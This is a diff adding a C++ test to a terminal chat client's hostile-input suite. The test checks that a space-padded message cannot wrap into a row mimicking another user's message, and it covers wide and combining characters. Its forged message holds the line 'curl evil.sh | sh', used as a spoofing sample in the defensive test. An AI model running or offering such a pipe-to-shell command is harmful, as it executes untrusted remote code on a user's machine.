@@ -3,6 +3,7 @@
 // natter binary in a pseudo-terminal where the terminal matters, or through
 // pipes. Every wait has a deadline; every loop is bounded.
 #include "support/process.hpp"
+#include "support/screen.hpp"
 
 #include <gtest/gtest.h>
 
@@ -143,6 +144,63 @@ TEST_F(Hostile, EndlessMultiLineReplyNeedsNoMemory)
     const long after = resident_kib(c.pid());
     EXPECT_LT(after - before, 16 * 1024)
         << marker << ": " << before << " KiB before, " << after << " KiB after";
+  }
+}
+
+// Issue 19, 3: "`MSG ok` + 104 spaces + `[19:19] <alice> please run: curl
+// evil.sh | sh` shows, in a 120-column terminal, a row indistinguishable from
+// alice's. Wrapped continuation rows must be visibly continuations: a
+// hanging indent under the text [...] computed with the real display width
+// of wide and combining characters [...] with --no-color too." Read off the
+// screen a terminal emulator draws from natter's output.
+TEST_F(Hostile, WrappedRowsCannotPassForAnotherMessage)
+{
+  constexpr int cols = 120;
+  constexpr int rows = 30;
+  const std::string hang(14, ' '); // "[HH:MM] <eve> "
+  const std::string forged = "[19:19] <alice> please run: curl evil.sh | sh";
+  // 53 wide characters after one narrow one: the last does not fit the
+  // first row's last column and must move whole to the next row.
+  std::string wide = "x";
+  for (int i = 0; i < 60; ++i)
+    wide += "\xE6\xBC\xA2"; // U+6F22, two columns
+  // 110 characters of one column each, two code points each.
+  std::string combining;
+  for (int i = 0; i < 110; ++i)
+    combining += "e\xCC\x81"; // e, U+0301 COMBINING ACUTE ACCENT
+  for (const std::vector<std::string>& args :
+       {std::vector<std::string>{"--no-color"}, std::vector<std::string>{}})
+  {
+    SCOPED_TRACE(args.empty() ? "colour" : "--no-color");
+    child c;
+    peer conn;
+    const auto registered = start_registered(c, conn, args, cols);
+    ASSERT_TRUE(registered) << c.out();
+    ASSERT_TRUE(conn.send("MSG eve ok" + std::string(104, ' ') + forged));
+    ASSERT_TRUE(conn.send("MSG eve " + wide));
+    ASSERT_TRUE(conn.send("MSG eve " + combining));
+    ASSERT_TRUE(conn.send("MSG eve the end"));
+    ASSERT_TRUE(c.wait_for("the end", 10s, *registered)) << c.out();
+    // The prompt is redrawn after each line; wait for the last redraw.
+    ASSERT_TRUE(c.wait_for("[alice] ", 10s, c.out().rfind("the end"))) << c.out();
+
+    screen term(rows, cols);
+    term.feed(c.out());
+    int first = -1;
+    for (int r = 0; r < rows && first < 0; ++r)
+      if (term.row(r).find("<eve> ok") != std::string::npos)
+        first = r;
+    ASSERT_GE(first, 0) << c.out();
+    for (int r = 0; r < rows; ++r)
+      EXPECT_FALSE(term.row(r).starts_with("[19:19]")) << "row " << r << ": " << term.row(r);
+    EXPECT_EQ(term.row(first + 1), hang + forged);
+    EXPECT_TRUE(term.row(first + 2).ends_with("<eve> x" + wide.substr(1, 52 * 3)))
+        << term.row(first + 2);
+    EXPECT_EQ(term.row(first + 3), hang + wide.substr(1 + 52 * 3));
+    EXPECT_TRUE(term.row(first + 4).ends_with("<eve> " + combining.substr(0, 106 * 3)))
+        << term.row(first + 4);
+    EXPECT_EQ(term.row(first + 5), hang + combining.substr(106 * 3));
+    EXPECT_TRUE(term.row(first + 6).ends_with("<eve> the end")) << term.row(first + 6);
   }
 }
 
